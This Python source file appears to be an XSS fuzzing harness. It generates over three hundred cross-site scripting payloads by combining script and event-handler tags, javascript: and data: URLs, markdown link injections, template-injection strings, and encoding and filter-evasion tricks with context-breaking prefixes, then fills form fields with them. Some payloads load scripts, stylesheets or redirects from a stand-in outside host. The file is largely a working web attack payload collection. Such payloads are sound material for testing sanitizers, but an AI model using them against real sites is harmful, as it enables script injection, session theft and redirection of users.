"""What is typed into every field: script in every dress."""

from itertools import cycle, product

MARK = "gevaar"
CALL = f"{MARK}(1)"
ELSEWHERE = "https://elders.example"

# -- what is tried -------------------------------------------------------------------------------------------------------

TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src={1}/x.js></script>", "<script/src='{1}/x.js'></script>",
    "<img src=x onerror={0}>", "<img src={1}/x.png>", "<svg onload={0}>", "<svg/onload={0}>", "<svg><script>{0}</script></svg>",
    "<body onload={0}>", "<iframe srcdoc='<script>parent.{0}</script>'></iframe>", "<iframe src='javascript:parent.{0}'></iframe>",
    "<a href='javascript:{0}'>x</a>", "<form action='javascript:{0}'><button>x</button></form>", "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>x</details>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}></audio>",
    "<object data='javascript:{0}'></object>", "<embed src='{1}/x.swf'>", "<link rel=stylesheet href='{1}/x.css'>",
    "<style>@import '{1}/x.css';</style>", "<style>*{{background:url({1}/x)}}</style>", "<meta http-equiv=refresh content='0;url={1}'>",
    "<base href='{1}/'>", "<math><mtext></mtext><mi xlink:href='javascript:{0}'>x</mi></math>", "<marquee onstart={0}>x</marquee>",
    "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>", "<p style='background:url({1}/x)'>x</p>",
    "<template><script>{0}</script></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
)  # fmt: skip
SHORT = "<img src=x onerror=gevaar(1)>\n<svg onload=gevaar(1)>"
BREAKS = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</select>", "\\")
WORDS = (
    '" onmouseover={0} autofocus onfocus={0} x="', "' autofocus onfocus={0} x='", "{{{{ {0} }}}}", "{{% debug %}}", "${{{0}}}",
    "javascript:{0}", "[x](javascript:{0})", "[x](JaVaScRiPt:{0})", "[x]( javascript:{0})", "[x](data:text/html,<script>{0}</script>)",
    "[x](https://ok.example/\" onmouseover=\"{0})", "[x](vbscript:{0})", "![x]({1}/x.png)", "[x](//elders.example)", "**<b>**{0}",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "\\u003cscript\\u003e{0}", "%3Cscript%3E{0}",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-", "<scr<script>ipt>{0}</scr</script>ipt>", "<<script>{0}//<</script>", "<!--<img src=x onerror={0}>-->",
    "| a | <img src=x onerror={0}> |", "[^x] <script>{0}</script>", "^<svg onload={0}>^", "~<img src=x onerror={0}>~", "＜script＞{0}＜/script＞",
)  # fmt: skip


def payloads() -> list[str]:
    """More than three hundred."""
    mixed = (f"{end}{tag}" for tag, end in product(TAGS, BREAKS))
    return [each.format(CALL, ELSEWHERE) for each in [*WORDS, *mixed]]


class Supply:
    """Gives each field what fits in it, going on with the next payload where the last field left off."""

    def __init__(self) -> None:
        self._next = cycle(payloads())
        self.given: set[str] = set()

    def of(self, longest: int, *, lines: bool) -> str:
        found, room = [], longest - 20
        while room > 0 and len(found) < 400:
            payload = next(self._next)
            if len(payload) >= room:
                break
            found.append(payload)
            room -= len(payload) + 1
        self.given |= set(found)
        return ("\n" if lines else " ").join(found) or "<b>"
